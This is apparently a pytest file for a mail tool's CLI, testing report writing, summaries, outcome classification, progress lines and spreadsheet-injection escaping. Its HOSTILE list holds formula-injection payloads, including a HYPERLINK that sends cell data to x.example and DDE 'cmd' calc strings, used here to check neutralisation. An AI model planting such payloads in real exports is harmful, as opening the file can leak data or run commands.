"""Reports (safe to open in a spreadsheet, proven writable before sending), the summary,
how outcomes are filed, and the progress lines."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from pathlib import Path

import pytest

from mailkit_async import (
    ConnectError,
    ConnectionDroppedError,
    HTTPStatusError,
    MalformedResponseError,
    OutcomeUnknownError,
    WipeResult,
    WipeStatus,
)
from mailkit_async._batch import Outcome
from mailkit_async._cli._exit import CliError
from mailkit_async._cli._journal import ReportRow
from mailkit_async._cli._kinds import classify_outcome
from mailkit_async._cli._progress import bar_line, plain_line
from mailkit_async._cli._report import (
    COLUMNS,
    Summary,
    check_report_target,
    print_summary,
    spreadsheet_safe,
    write_report,
)

from ._cli_support import read_report, run_cli

ROWS = [
    ReportRow("jane@example.com", "queued", "OK", 12345678, None, 1),
    ReportRow('bad, "quoted"', "invalid_input", None, None, "line 2: not an address", 0),
    ReportRow("Žofie@example.cz", "error", None, None, "ConnectError: refused", 4),
]


def test_csv_report(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    assert write_report(str(path), iter(ROWS)) == 3
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == list(COLUMNS)
    assert rows[1] == ["jane@example.com", "queued", "OK", "12345678", "", "1"]
    assert rows[2][0] == 'bad, "quoted"'
    assert rows[3][0] == "Žofie@example.cz"


def test_jsonl_report_replaces_the_old_one_whole(tmp_path: Path) -> None:
    path = tmp_path / "r.JSONL"
    path.write_text("old\n" * 100)
    write_report(str(path), iter(ROWS[:2]))
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines[0] == dict(zip(COLUMNS, ROWS[0], strict=True))
    assert lines[1]["id_email"] is None
    assert len(lines) == 2
    assert [p.name for p in tmp_path.iterdir()] == ["r.JSONL"]  # no temporary left behind


def test_report_needs_a_known_extension(tmp_path: Path) -> None:
    with pytest.raises(CliError, match=r"\.csv or \.jsonl"):
        write_report(str(tmp_path / "r.txt"), iter(ROWS))


def summary(**changes: object) -> Summary:
    base = Summary(
        command="wipe",
        protocol="json",
        endpoint="https://api.mailkit.eu",
        journal="in.txt.journal.sqlite",
        report=None,
        recipients=3,
        invalid_lines=1,
        duplicate_lines=2,
        statuses={"queued": 2, "outcome_unknown": 1, "invalid_input": 1},
    )
    for name, value in changes.items():
        setattr(base, name, value)
    return base


def test_summary_table_and_json() -> None:
    out = io.StringIO()
    print_summary(summary(exit_code=1), out)
    text = out.getvalue()
    assert "  queued                  2\n" in text
    assert "  total                   4\n" in text
    assert "input: 3 recipients, 1 invalid line, 2 duplicate lines (sent once)" in text
    assert "2 need attention" in text
    data = json.loads(summary().as_json())
    assert data["attention"] == 2
    assert data["statuses"]["queued"] == 2


def test_pending_needs_attention_except_in_a_dry_run() -> None:
    assert summary(statuses={"pending": 5}).attention == 5
    assert summary(statuses={"pending": 5}, dry_run=True).attention == 0


def outcome(result: WipeResult | None = None, error: Exception | None = None) -> Outcome:  # type: ignore[type-arg]
    return Outcome(12345678, result, error, 0, 2)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("error", "safe_state", "unsafe_state"),
    [
        (ConnectError("refused", function="f"), "error", "error"),
        (HTTPStatusError("503", function="f", status_code=503), "error", "error"),
        (HTTPStatusError("500", function="f", status_code=500), "error", "unknown"),
        (ConnectionDroppedError("dropped", function="f"), "error", "unknown"),
        (OutcomeUnknownError("maybe", function="f"), "unknown", "unknown"),
        (MalformedResponseError("garbled", function="f"), "error", "unknown"),
    ],
)
def test_what_may_have_acted_is_never_retried_for_unsafe_jobs(
    error: Exception, safe_state: str, unsafe_state: str
) -> None:
    assert classify_outcome(outcome(error=error), unsafe=False).state == safe_state
    assert classify_outcome(outcome(error=error), unsafe=True).state == unsafe_state


def test_results_are_final_and_keep_the_id() -> None:
    result = WipeResult(status=WipeStatus.ALREADY_QUEUED, message="Email has already been inserted")
    record = classify_outcome(outcome(result=result), unsafe=False)
    assert record == ("done", "already_queued", result.message, 12345678, None, 2, None)


def test_progress_lines() -> None:
    counts = Counter({"queued": 4_000, "error": 3, "already_queued": 0})
    line = bar_line("wipe", 4_003, 10_000, 812.4, 7.6, counts, width=200)
    assert line.startswith("wipe █████████░░░░░░░░░░░░░░░ 4,003/10,000  40% 812/s ETA 0:08")
    assert line.endswith("queued 4,000 · error 3")
    assert len(bar_line("wipe", 1, 2, 1.0, None, counts, width=40)) == 39
    assert "#" in bar_line("wipe", 5, 10, 1.0, None, counts, width=80, unicode=False)
    assert plain_line("wipe", 0, 10, 0.0, None, Counter()) == (
        "wipe: 0/10 done (0%), 0/s, ETA --:--; nothing yet"
    )


HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3@example.com",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    rows = [ReportRow(text, "invalid_input", text, None, text, 0) for text in HOSTILE]
    rows.append(ReportRow("jane@example.com", "queued", "OK", -5, None, 1))  # a number stays
    path = tmp_path / "r.csv"
    write_report(str(path), iter(rows))
    with path.open(encoding="utf-8", newline="") as file:
        cells = list(csv.reader(file))[1:]
    for text, row in zip(HOSTILE, cells, strict=False):
        assert row[0] == row[2] == row[4] == "'" + text
    assert cells[-1] == ["jane@example.com", "queued", "OK", "-5", "", "1"]
    raw = path.read_text(encoding="utf-8")
    assert '"jane@example.com","queued","OK",-5,"",1' in raw  # every text cell quoted


def test_jsonl_reports_keep_raw_values(tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    write_report(
        str(path), iter([ReportRow(text, "error", None, None, None, 0) for text in HOSTILE])
    )
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [line["recipient"] for line in lines] == HOSTILE


def test_only_the_owasp_starts_are_neutralised() -> None:
    for text in ("=x", "+x", "-x", "@x", "\tx", "\rx"):
        assert spreadsheet_safe(text) == "'" + text
    for value in ("x=1", " =1", "'=1", "jane@example.com", "", 12, -12):
        assert spreadsheet_safe(value) == value
    assert spreadsheet_safe(None) == ""


def test_report_target_is_checked_before_anything_is_sent(tmp_path: Path) -> None:
    check_report_target(str(tmp_path / "r.csv"))
    assert list(tmp_path.iterdir()) == []  # the probe is gone
    with pytest.raises(CliError, match="no such directory"):
        check_report_target(str(tmp_path / "missing" / "r.csv"))
    (tmp_path / "d.csv").mkdir()
    with pytest.raises(CliError, match="is a directory"):
        check_report_target(str(tmp_path / "d.csv"))


def test_addresses_that_look_like_formulas_are_sent_and_shown_as_text(tmp_path: Path) -> None:
    """`=1+1@example.com` is a valid address: queued, and harmless in the spreadsheet."""
    source = tmp_path / "in.txt"
    source.write_text("=1+1@example.com\n-2+3@example.com\n", encoding="utf-8")
    for suffix in ("csv", "jsonl"):
        report = tmp_path / f"r.{suffix}"
        done = run_cli(
            "wipe", "--emulator", str(source), "--report", str(report),
            "--journal", str(tmp_path / f"{suffix}.sqlite"),
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        prefix = "'" if suffix == "csv" else ""
        assert [(row["recipient"], row["status"]) for row in read_report(report)] == [
            (prefix + "=1+1@example.com", "queued"),
            (prefix + "-2+3@example.com", "queued"),
        ]
